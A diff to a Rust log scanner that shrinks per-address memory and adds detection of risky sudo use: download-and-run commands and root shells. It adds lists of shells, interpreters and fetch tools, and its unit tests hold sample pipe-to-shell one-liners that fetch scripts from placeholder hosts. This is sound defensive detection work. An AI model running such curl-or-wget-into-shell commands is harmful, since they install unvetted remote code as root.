@@ -8,7 +8,11 @@
 //! - `logscan/password-login` (medium): a login with a password where keys
 //!   are expected;
 //! - `logscan/new-source` (medium): a user logging in from an address they
-//!   never logged in from before in the scanned logs.
+//!   never logged in from before in the scanned logs;
+//! - `logscan/sudo-download-exec` (critical): a command run through sudo
+//!   that fetches something and runs it (`sh -c 'curl URL | sh'`);
+//! - `logscan/sudo-shell` (high): a shell run through sudo (`sudo -i`,
+//!   `sudo -s`, `sudo sh -c ...`): whatever it ran next is not in the log.
 //!
 //! With `--since`, earlier lines are still read: they are the history that
 //! makes an address "new" or a login "after failures", but only logins in
@@ -82,42 +86,70 @@ impl Record for Login {
     const TYPE: &'static str = "login";
 }
 
-#[derive(Debug, Default)]
+/// One address, in 64 bytes (a million must fit in 128 MB); `i64::MIN`
+/// is "not seen in the window".
+#[derive(Debug)]
 struct Addr {
     failures: u64,
     /// Failures at any time (history included), for brute-force-success.
     failures_ever: u64,
     users: UserSet,
     successes: u64,
-    first_seen: Option<i64>,
-    last_seen: Option<i64>,
+    first_seen: i64,
+    last_seen: i64,
+}
+
+const NEVER: i64 = i64::MIN;
+
+impl Default for Addr {
+    fn default() -> Self {
+        Addr {
+            failures: 0,
+            failures_ever: 0,
+            users: UserSet::default(),
+            successes: 0,
+            first_seen: NEVER,
+            last_seen: NEVER,
+        }
+    }
 }
 
 /// Distinct user names an address tried, as hashes: one inline (most
-/// addresses try one name), then a short vector, capped.
+/// addresses try one name), then a boxed vector, capped.
 #[derive(Debug, Default)]
 struct UserSet {
-    first: Option<u64>,
-    more: Vec<u64>,
-    overflow: bool,
+    first: u64,
+    /// 1: `first` holds a name; 2: more names than the cap.
+    flags: u8,
+    // Boxed: 8 bytes per address instead of a Vec's 24, and most
+    // addresses never try a second name.
+    #[allow(clippy::box_collection)]
+    more: Option<Box<Vec<u64>>>,
 }
 
 impl UserSet {
     fn insert(&mut self, h: u64) {
-        if self.first == Some(h) || self.more.contains(&h) {
+        let has_first = self.flags & 1 != 0;
+        if (has_first && self.first == h) || self.more.as_ref().is_some_and(|m| m.contains(&h)) {
             return;
         }
-        if self.first.is_none() {
-            self.first = Some(h);
-        } else if self.more.len() + 1 < MAX_USERS_PER_ADDRESS {
-            self.more.push(h);
+        if !has_first {
+            self.first = h;
+            self.flags |= 1;
+            return;
+        }
+        let more = self.more.get_or_insert_with(Box::default);
+        if more.len() + 1 < MAX_USERS_PER_ADDRESS {
+            more.push(h);
         } else {
-            self.overflow = true;
+            self.flags |= 2;
         }
     }
 
     fn count(&self) -> u64 {
-        u64::from(self.first.is_some()) + self.more.len() as u64 + u64::from(self.overflow)
+        u64::from(self.flags & 1)
+            + self.more.as_ref().map_or(0, |m| m.len() as u64)
+            + u64::from(self.flags >> 1 & 1)
     }
 }
 
@@ -133,7 +165,7 @@ struct Collector<'o> {
     since: Option<i64>,
     out: &'o mut Output,
     path: BytesPath,
-    addrs: HashMap<Box<[u8]>, Addr>,
+    addrs: crate::addrtable::AddrTable<Addr>,
     logins: Vec<(Login, u64)>,
     logins_total: u64,
     known_sources: HashMap<Box<[u8]>, FastSet<Box<[u8]>>>,
@@ -258,6 +290,120 @@ impl Collector<'_> {
     }
 }
 
+/// The program name of a command word (`/usr/bin/bash` -> `bash`).
+fn base(word: &[u8]) -> &[u8] {
+    word.rsplit(|&c| c == b'/').next().unwrap_or(word)
+}
+
+const SHELLS: &[&[u8]] = &[
+    b"sh", b"bash", b"dash", b"zsh", b"ksh", b"mksh", b"csh", b"tcsh", b"fish", b"ash", b"busybox",
+    b"su",
+];
+const RUNNERS: &[&[u8]] = &[
+    b"python", b"python3", b"perl", b"ruby", b"php", b"node", b"lua",
+];
+const FETCHERS: &[&[u8]] = &[
+    b"curl",
+    b"wget",
+    b"fetch",
+    b"aria2c",
+    b"tftp",
+    b"lwp-download",
+];
+
+/// What a sudo command does that hides the rest: `(id, is download-and-run)`.
+/// sudo logs the arguments joined by spaces, quotes dropped, so the words
+/// of a `sh -c 'curl ... | sh'` are all on the line.
+fn risky_sudo(cmd: &[u8]) -> Option<bool> {
+    // The words in command position: the first, one after a separator
+    // (`|`, `;`, `&`, `(`, `` ` ``, `$(`), and one after a shell's `-c`.
+    let mut commands: Vec<&[u8]> = Vec::new();
+    let mut at_command = true;
+    for w in cmd.split(|&c| c == b' ') {
+        let mut w = w;
+        while let Some((&c, rest)) = w.split_first() {
+            if matches!(
+                c,
+                b'|' | b';' | b'&' | b'(' | b'`' | b'$' | b'\'' | b'"' | b'<'
+            ) {
+                at_command |= !matches!(c, b'\'' | b'"' | b'<');
+                w = rest;
+            } else {
+                break;
+            }
+        }
+        let tail_sep = w
+            .iter()
+            .rposition(|c| !matches!(c, b'|' | b';' | b'&' | b')' | b'`' | b'\'' | b'"'))
+            .map_or(0, |i| i + 1);
+        let (word, sep) = w.split_at(tail_sep);
+        if !word.is_empty() {
+            if at_command {
+                commands.push(word);
+                at_command = false;
+            } else if word == b"-c" {
+                at_command = true;
+            }
+        }
+        if sep.iter().any(|c| matches!(c, b'|' | b';' | b'&' | b'`')) {
+            at_command = true;
+        }
+    }
+    let is = |w: &[u8], set: &[&[u8]]| {
+        let b = base(w);
+        set.iter().any(|s| {
+            *s == b
+                || (b.starts_with(s)
+                    && b[s.len()..]
+                        .iter()
+                        .all(|c| c.is_ascii_digit() || *c == b'.'))
+        })
+    };
+    let fetch = commands.iter().any(|w| is(w, FETCHERS));
+    let runs = commands.iter().any(|w| is(w, SHELLS) || is(w, RUNNERS));
+    if fetch && runs {
+        return Some(true);
+    }
+    let first = *commands.first()?;
+    is(first, SHELLS).then_some(false)
+}
+
+impl Collector<'_> {
+    fn sudo_command(&mut self, ev: &Event<'_>, line_no: u64) {
+        let Some(cmd) = ev.detail else { return };
+        let Some(download) = risky_sudo(cmd) else {
+            return;
+        };
+        let user = ev.user.unwrap_or(b"?");
+        let (u, c) = (lossy(user), lossy(cmd));
+        let when = ev.time.as_ref().map(rfc3339);
+        let loc = Location::new(self.path.clone(), Some(line_no));
+        let f = if download {
+            Finding::new(
+                "logscan/sudo-download-exec",
+                Severity::Critical,
+                format!("{u} fetched and ran code as root through sudo: {c}"),
+                "Downloading a script and running it as root is how an intruder installs a backdoor; what it did is not in the log.",
+            )
+            .fix(format!("find out who ran this as {u}; if it was not a known change, treat the host as compromised"))
+        } else {
+            Finding::new(
+                "logscan/sudo-shell",
+                Severity::High,
+                format!("{u} started a root shell through sudo: {c}"),
+                "Commands typed in a root shell are not logged by sudo: from here on the log shows nothing of what root did.",
+            )
+            .fix("allow users only the commands they need in sudoers (no shells, no ALL); log sessions with Defaults log_input,log_output")
+        }
+        .at(loc)
+        .evidence("user", &u)
+        .evidence("command", &c)
+        .evidence("time", &when);
+        let id = if download { "sudo-dl" } else { "sudo-sh" };
+        self.add_finding((id, user, cmd), f);
+    }
+}
+
 impl Sink for Collector<'_> {
     fn begin_input(&mut self, path: &BytesPath) -> io::Result<()> {
         self.path = path.clone();
@@ -276,6 +422,9 @@ impl Sink for Collector<'_> {
             | Kind::SudoCommandDenied
                 if window =>
             {
+                if ev.kind == Kind::SudoCommand {
+                    self.sudo_command(ev, line_no);
+                }
                 let s = self.sudo.entry(lossy(ev.user.unwrap_or(b"?"))).or_default();
                 match ev.kind {
                     Kind::SudoCommand => {
@@ -297,10 +446,7 @@ impl Sink for Collector<'_> {
         if !(ev.failure || ev.kind == Kind::AuthSuccess) {
             return Ok(());
         }
-        let a = match self.addrs.get_mut(ip) {
-            Some(a) => a,
-            None => self.addrs.entry(ip.into()).or_default(),
-        };
+        let a = self.addrs.get_or_insert_with(ip, Addr::default);
         if ev.failure && ev.kind != Kind::AuthSuccess {
             a.failures_ever += u64::from(ev.count);
         }
@@ -319,8 +465,12 @@ impl Sink for Collector<'_> {
                 .insert(crate::hashing::FastBuild::default().hash_one(u));
         }
         if let Some(t) = &ev.time {
-            a.first_seen = Some(a.first_seen.map_or(t.unix, |f| f.min(t.unix)));
-            a.last_seen = Some(a.last_seen.map_or(t.unix, |l| l.max(t.unix)));
+            a.first_seen = if a.first_seen == NEVER {
+                t.unix
+            } else {
+                a.first_seen.min(t.unix)
+            };
+            a.last_seen = a.last_seen.max(t.unix);
         }
         Ok(())
     }
@@ -341,7 +491,7 @@ pub fn run(opts: ScanOptions, inputs: &[Input], out: &mut Output) -> Result<(), 
         since: opts.since,
         out,
         path: BytesPath::from("<stdin>"),
-        addrs: HashMap::default(),
+        addrs: Default::default(),
         logins: Vec::new(),
         logins_total: 0,
         known_sources: HashMap::default(),
@@ -353,20 +503,28 @@ pub fn run(opts: ScanOptions, inputs: &[Input], out: &mut Output) -> Result<(), 
     let totals = scan_inputs(&mut scanner, inputs, &mut c, &progress)?;
     // Sort references and build each record when it is written: with a
     // million addresses, a copy of them all would double the peak memory.
-    let mut order: Vec<(&[u8], &Addr)> = c
-        .addrs
-        .iter()
-        .filter(|(_, a)| a.failures > 0 || a.successes > 0)
-        .map(|(ip, a)| (&ip[..], a))
+    let table = &c.addrs;
+    let mut order: Vec<u32> = (0..table.len() as u32)
+        .filter(|&i| {
+            let a = table.at(i).1;
+            a.failures > 0 || a.successes > 0
+        })
         .collect();
-    order.sort_by(|x, y| y.1.failures.cmp(&x.1.failures).then_with(|| x.0.cmp(y.0)));
-    let stats = |(ip, a): &(&[u8], &Addr)| AddressStats {
-        ip: lossy(ip),
-        failures: a.failures,
-        users: a.users.count(),
-        successes: a.successes,
-        first_seen: a.first_seen.map(rfc3339_utc),
-        last_seen: a.last_seen.map(rfc3339_utc),
+    order.sort_unstable_by(|&x, &y| {
+        let ((kx, ax), (ky, ay)) = (table.at(x), table.at(y));
+        ay.failures.cmp(&ax.failures).then_with(|| kx.cmp(&ky))
+    });
+    let seen = |t: i64| (t != NEVER).then(|| rfc3339_utc(t));
+    let stats = |i: &u32| {
+        let (ip, a) = table.at(*i);
+        AddressStats {
+            ip: ip.text(),
+            failures: a.failures,
+            users: a.users.count(),
+            successes: a.successes,
+            first_seen: seen(a.first_seen),
+            last_seen: seen(a.last_seen),
+        }
     };
     let out = c.out;
     if out.is_json() {
@@ -386,8 +544,11 @@ pub fn run(opts: ScanOptions, inputs: &[Input], out: &mut Output) -> Result<(), 
             })?;
         }
     } else {
-        let failures: u64 = order.iter().map(|(_, a)| a.failures).sum();
-        let failing = order.iter().filter(|(_, a)| a.failures > 0).count();
+        let failures: u64 = order.iter().map(|&i| table.at(i).1.failures).sum();
+        let failing = order
+            .iter()
+            .filter(|&&i| table.at(i).1.failures > 0)
+            .count();
         let top: Vec<AddressStats> = order.iter().take(TABLE_ROWS).map(stats).collect();
         out.text(&render_tables(
             Counts {
@@ -507,4 +668,28 @@ fn render_tables(
     }
     t.push('\n');
     t
+}
+
+#[cfg(test)]
+mod sudo_tests {
+    use super::risky_sudo;
+
+    #[test]
+    fn shells_and_download_and_run() {
+        let r = |c: &str| risky_sudo(c.as_bytes());
+        assert_eq!(
+            r("/bin/sh -c curl http://203.0.113.45/x.sh | sh"),
+            Some(true)
+        );
+        assert_eq!(r("/usr/bin/bash -c wget -qO- http://x/y|bash"), Some(true));
+        assert_eq!(
+            r("/bin/bash -c python3 <(curl -s http://x/p.py)"),
+            Some(true)
+        );
+        assert_eq!(r("/bin/bash"), Some(false));
+        assert_eq!(r("/usr/bin/su -"), Some(false));
+        assert_eq!(r("/usr/bin/apt install curl bash"), None);
+        assert_eq!(r("/usr/bin/systemctl restart nginx"), None);
+        assert_eq!(r("/usr/bin/curl -o /tmp/x http://x/"), None);
+    }
 }
